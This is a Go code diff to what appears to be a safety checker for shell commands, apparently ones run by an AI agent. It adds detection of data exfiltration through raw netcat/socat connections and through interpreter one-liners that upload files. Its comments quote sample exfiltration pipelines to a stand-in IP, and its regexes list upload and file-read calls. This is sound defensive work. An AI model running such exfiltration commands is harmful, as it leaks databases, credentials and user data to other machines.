@@ -93,6 +93,9 @@ func netCommand(ctx *Context, c *Command) []Finding {
 	if f := exfilOf(ctx, c); f != nil {
 		return []Finding{*f}
 	}
+	if f := codeUpload(ctx, c); f != nil {
+		return []Finding{*f}
+	}
 
 	if remoteProgram(c) {
 		return []Finding{pipeShell(c, "runs "+c.Word0.Value+", a program fetched from the network as it starts")}
@@ -803,6 +806,9 @@ func exfilOf(ctx *Context, c *Command) *Finding {
 				sent = append(sent, r.Target.Value)
 			}
 		}
+		if f := rawUpload(c); f != nil {
+			return f
+		}
 	case psUploaders.has(name):
 		p := parseArgs(&spec{ps: true, long: []string{"-Uri", "-Method", "-InFile", "-OutFile", "-Body", "-Headers", "-ContentType", "-Form", "-Credential", "-UserAgent", "-Proxy", "-TimeoutSec"}}, c.Args)
 		sent = p.values("-InFile")
@@ -831,39 +837,96 @@ func exfilOf(ctx *Context, c *Command) *Finding {
 		}
 	}
 	for _, p := range sent {
-		if !c.Grammar.IsPosix() {
-			p = strings.ReplaceAll(p, `\`, "/") // ~\Documents from cmd's %USERPROFILE%\Documents
-		}
-		abs := homeWord(p, ctx.Env)
-		if !path.IsAbs(abs) && ctx.Env.Cwd != "" {
-			abs = path.Join(ctx.Env.Cwd, abs)
-		}
-		what := ""
-		switch {
-		case exfilSystemFile.match(path.Clean(abs)):
-			what = p + ", the system's accounts or authentication records,"
-		case exfilDatabase.get().MatchString(p):
-			what = p + ", a database,"
-		case credHoard(p) || credHoard(abs):
-			what = p + ", which holds many tools' credentials,"
-		case ctx.Env.Home != "" && path.Clean(abs) == path.Clean(ctx.Env.Home):
-			what = p + ", the home directory,"
-		case userData(ctx.Env, p) != "":
-			what = userData(ctx.Env, p)
-		default:
-			if src, ok := archivedProject(ctx, c, p); ok {
-				what = p + ", an archive of " + src + ","
-			} else if strings.HasPrefix(p, "archive of ") {
-				what = "an archive of " + strings.TrimPrefix(p, "archive of ") + ","
-			}
-		}
-		if what != "" {
+		if what := sentWhat(ctx, c, p); what != "" {
 			f := finding("net.exfil", c, "it uploads "+what+" to another machine, where it is out of anyone's control",
 				"send only what the task needs, and only where the user asked; leave sharing data to a human")
 			return &f
 		}
 	}
 	return nil
+}
+
+// ncValue are the options of the netcats (nc, ncat, netcat) that take a
+// value: the source port and address, timeouts, a proxy and its
+// protocol, the buffer sizes, the TOS and TTL.
+const ncValue = "IMOPTVXimpqsTwx"
+
+// rawPeer returns the host a raw connection (nc, ncat, telnet, socat,
+// openssl s_client) connects to, as written; "" for a listener or when
+// none is named.
+func rawPeer(c *Command) string {
+	switch strings.ToLower(strings.TrimSuffix(c.Name, ".exe")) {
+	case "socat":
+		for _, a := range c.Args {
+			typ, addr, ok := strings.Cut(a.Value, ":")
+			switch strings.ToUpper(typ) {
+			case "TCP", "TCP4", "TCP6", "TCP-CONNECT", "UDP", "UDP4", "UDP6", "UDP-SENDTO", "OPENSSL", "SSL", "OPENSSL-CONNECT":
+				if ok {
+					host, _, _ := strings.Cut(addr, ",")
+					if i := strings.LastIndexByte(host, ':'); i > 0 {
+						host = host[:i]
+					}
+					return host
+				}
+			}
+		}
+	case "openssl":
+		for i, a := range c.Args {
+			host, ok := strings.CutPrefix(a.Value, "-connect=")
+			if !ok && a.Value == "-connect" && i+1 < len(c.Args) {
+				host, ok = c.Args[i+1].Value, true
+			}
+			if !ok {
+				continue
+			}
+			if i := strings.LastIndexByte(host, ':'); i > 0 {
+				host = host[:i]
+			}
+			return host
+		}
+	default:
+		p := parseArgs(&spec{value: ncValue}, c.Args)
+		if p.has("-l", "--listen", "-z") || len(p.operands) == 0 {
+			return "" // a listener sends nothing out; -z only probes the port
+		}
+		return p.operands[0].Value
+	}
+	return ""
+}
+
+// rawUpload refuses a raw connection to another machine (nc HOST PORT,
+// socat - TCP:HOST:PORT) whose input is a program's output
+// (mysqldump | nc 203.0.113.7 4444, tar c dir | gzip | ncat h p): a
+// connection with no protocol, no name at the other end and no
+// authentication takes whatever the program produced to whoever
+// listens there. Text the command line writes (printf 'GET /
+// HTTP/1.0\r\n\r\n' | nc example.com 80, echo ruok | nc zk 2181) is a
+// request, not data.
+func rawUpload(c *Command) *Finding {
+	host := rawPeer(c)
+	if host == "" || loopbackHost(host) || reverseShellOf(c) != "" {
+		return nil // a shell's streams on the connection: net.reverse-shell's
+	}
+	f := chainHas(c.Feeds, c, func(x *Command) bool { return !literalPrinter(x) })
+	if f == nil {
+		return nil
+	}
+	what := f.Name
+	if what == "" {
+		what = strings.TrimSpace(f.Text)
+	}
+	r := finding("net.exfil", c, "it sends the output of "+what+" over a raw connection to "+host+", another machine, where it is out of anyone's control",
+		"send only what the task needs, to a place the user named, with a tool that authenticates the other end (`scp FILE user@host:`); leave sharing data to a human")
+	return &r
+}
+
+// literalPrinter reports whether c only prints text written on its
+// command line: echo, printf or Write-Output of literal words.
+func literalPrinter(c *Command) bool {
+	if !printers.has(c.Name) && c.Name != "write-output" || c.Dynamic || len(c.Feeds) > 0 || len(c.Redirs) > 0 {
+		return false
+	}
+	return !slices.ContainsFunc(c.Args, func(a Word) bool { return !a.Literal })
 }
 
 // isDataOpt reports whether v is an HTTP client's option whose value is
@@ -1104,4 +1167,93 @@ func reverseForward(c *Command) string {
 		}
 	}
 	return ""
+}
+
+// sentWhat says what the file p that c sends to another machine is, when
+// that is a leak: the system's accounts, a database, a hoard of
+// credentials, the home directory, the user's own data, an archive of
+// the project or home; "" for anything else.
+func sentWhat(ctx *Context, c *Command, p string) string {
+	if !c.Grammar.IsPosix() {
+		p = strings.ReplaceAll(p, `\`, "/") // ~\Documents from cmd's %USERPROFILE%\Documents
+	}
+	abs := homeWord(p, ctx.Env)
+	if !path.IsAbs(abs) && ctx.Env.Cwd != "" {
+		abs = path.Join(ctx.Env.Cwd, abs)
+	}
+	switch {
+	case exfilSystemFile.match(path.Clean(abs)):
+		return p + ", the system's accounts or authentication records,"
+	case exfilDatabase.get().MatchString(p):
+		return p + ", a database,"
+	case credHoard(p) || credHoard(abs):
+		return p + ", which holds many tools' credentials,"
+	case ctx.Env.Home != "" && path.Clean(abs) == path.Clean(ctx.Env.Home):
+		return p + ", the home directory,"
+	case userData(ctx.Env, p) != "":
+		return userData(ctx.Env, p)
+	}
+	if src, ok := archivedProject(ctx, c, p); ok {
+		return p + ", an archive of " + src + ","
+	} else if strings.HasPrefix(p, "archive of ") {
+		return "an archive of " + strings.TrimPrefix(p, "archive of ") + ","
+	}
+	return ""
+}
+
+// codeSendRe matches interpreter code that sends a request with a body:
+// an HTTP client's post, put or patch (requests, httpx, axios, a
+// session, Net::HTTP.post, HTTParty), a method given as POST, PUT or
+// PATCH (fetch's method:, http.request's), urllib's data, a form or a
+// file upload (files=, curl's CURLOPT_POSTFIELDS, ftplib's storbinary).
+var codeSendRe = &lazyRegexp{expr: `(?i)\.(post|put|patch|upload(_?file)?|storbinary|storlines|sendfile|send_file)\s*\(|\bmethod\s*[:=]+\s*['"]?(post|put|patch)\b|Net::HTTP::(Post|Put|Patch)\b|\bRequest\s*\([^)]*\bdata\s*=|\burlopen\s*\([^)]*\bdata\s*=|\burlopen\s*\([^,)]+,\s*[^)]|CURLOPT_POST(FIELDS)?\b|\bfiles\s*=\s*\{`}
+
+// codeReadRe matches code that reads a file's contents: open(),
+// readFileSync and createReadStream, File.read, file_get_contents,
+// read_bytes and read_text, readAllBytes, Deno.readFile, Bun.file, slurp.
+var codeReadRe = &lazyRegexp{expr: `\bopen\s*\(|readFileSync|createReadStream|\bFile\.(read|binread|open|new)\b|file_get_contents|\.read_(bytes|text)\s*\(|readAllBytes|Deno\.readFile|Bun\.file|\bslurp\b|\bIO\.read\b|fopen\s*\(`}
+
+// codeUpload refuses interpreter code (python3 -c, node -e, ruby -e, php
+// -r) that reads a file and sends a request with a body to another
+// machine, judged as curl -F f=@FILE URL is: to a paste or drop site,
+// request catcher or chat webhook whatever the file; elsewhere when the
+// file is a database, the system's accounts, credentials or the user's
+// own data (sentWhat). A request to this machine is a service being
+// developed.
+func codeUpload(ctx *Context, c *Command) *Finding {
+	_, code, ok := interpCode(c)
+	if !ok || !codeSendRe.get().MatchString(code) || !codeReadRe.get().MatchString(code) {
+		return nil
+	}
+	var remote []string
+	for _, q := range quotedStrings(code) {
+		u, ok := readURL(q)
+		if !ok || loopbackHost(u.hostPort()) {
+			continue
+		}
+		if scheme := strings.ToLower(u.scheme); scheme == "http" || scheme == "https" || scheme == "ftp" {
+			remote = append(remote, q)
+		}
+	}
+	for _, u := range remote {
+		if w, _ := readURL(u); dropHost.match(w.hostPort() + w.rest) {
+			f := finding("net.exfil", c, "its code uploads a file to "+u+", a paste or drop site, request catcher or chat webhook, where it is public or someone else's at once",
+				"keep the data on this machine; to share a result, print it and let a human decide where it goes")
+			return &f
+		}
+	}
+	if len(remote) == 0 {
+		return nil
+	}
+	for _, p := range codePaths(code) {
+		if _, isURL := readURL(p); isURL {
+			continue
+		}
+		if what := sentWhat(ctx, c, p); what != "" {
+			f := finding("net.exfil", c, "its code uploads "+what+" to "+remote[0]+", another machine, where it is out of anyone's control",
+				"send only what the task needs, and only where the user asked; leave sharing data to a human")
+			return &f
+		}
+	}
+	return nil
 }
